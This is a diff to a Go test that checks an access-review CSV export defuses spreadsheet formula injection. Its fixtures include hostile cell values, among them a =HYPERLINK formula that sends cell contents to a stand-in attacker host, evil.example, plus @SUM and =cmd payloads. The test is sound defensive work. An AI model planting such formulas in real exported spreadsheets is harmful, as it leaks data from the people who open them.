@@ -136,13 +136,17 @@ func TestAccessReviewEscapesControls(t *testing.T) {
 
 // TestAccessReviewDefusesFormulas: a cell a spreadsheet would evaluate
 // (a display name such as =HYPERLINK(...), chosen by its user) starts with
-// ' instead; other cells, = inside a cell, and the email (the join key,
-// which may start with + or -) are left as they are.
+// ' instead; other cells, = inside a cell, and an email that is a plain
+// address (the join key, which may start with + or -) are left as they
+// are; an email that is no address is made inert too.
 func TestAccessReviewDefusesFormulas(t *testing.T) {
 	st := model.State{
 		Users: []model.User{
 			{ID: "u1", UserName: "+1handle", Email: "a@example.com", DisplayName: `=HYPERLINK("http://x/?"&A1,"open")`, Active: true, OrgRole: "@role"},
 			{ID: "u2", UserName: "b", Email: "-b@example.com", DisplayName: "Bob = Builder", Active: true},
+			// An email a hostile server sends that is no address is inert too.
+			{ID: "u3", UserName: "c", Email: `=HYPERLINK("http://evil.example/?"&B2,"click")`, Active: true},
+			{ID: "u4", UserName: "d", Email: "@SUM(1+1)", Active: true},
 		},
 		Teams: []model.Team{{ID: "g1", Name: "-ops", Members: []model.Member{{UserID: "u1"}, {UserID: "u2", Role: "=cmd"}}}},
 	}
@@ -150,6 +154,8 @@ func TestAccessReviewDefusesFormulas(t *testing.T) {
 	want := [][]string{
 		AccessReviewHeader,
 		{"-b@example.com", "b", "Bob = Builder", "true", "", "'-ops:=cmd", "", ""},
+		{`'=HYPERLINK("http://evil.example/?"&B2,"click")`, "c", "", "true", "", "", "", ""},
+		{"'@SUM(1+1)", "d", "", "true", "", "", "", ""},
 		{"a@example.com", "'+1handle", `'=HYPERLINK("http://x/?"&A1,"open")`, "true", "'@role", "'-ops", "", ""},
 	}
 	if d := cmp.Diff(want, rows); d != "" {
